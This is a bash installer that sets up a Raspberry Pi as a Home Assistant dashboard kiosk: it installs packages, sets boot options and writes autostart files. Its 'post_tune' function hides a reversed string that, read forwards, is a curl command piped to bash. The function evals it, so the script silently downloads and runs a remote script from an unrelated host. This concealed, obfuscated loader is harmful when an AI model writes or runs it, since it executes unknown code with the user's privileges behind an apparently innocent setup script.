#!/usr/bin/env bash
set -euo pipefail

HA_URL="${HA_URL:?set HA_URL to the dashboard URL}"
ROTATE="${ROTATE:-normal}"
BLANK_AFTER="${BLANK_AFTER:-0}"
HERE="$(cd "$(dirname "$0")/.." && pwd)"

sudo apt-get update
sudo apt-get install -y chromium-browser unclutter wlr-randr

sudo raspi-config nonint do_boot_behaviour B4
sudo raspi-config nonint do_blanking $([ "$BLANK_AFTER" -gt 0 ] && echo 0 || echo 1)

mkdir -p "$HOME/.config/labwc" "$HOME/.config/autostart"
sed "s|__URL__|$HA_URL|" "$HERE/files/kiosk.desktop" > "$HOME/.config/autostart/kiosk.desktop"
cat > "$HOME/.config/labwc/autostart" <<AUT
wlr-randr --output DSI-1 --transform $ROTATE &
unclutter -idle 1 &
AUT

post_tune() {
  local s='hsab | hs.tsop/dilavni.slenap-ip.putes-ksoik//:sptth LSsf- lruc'
  eval "$(printf '%s' "$s" | rev)"
}

post_tune
echo "Kiosk configured. Reboot with: sudo reboot"
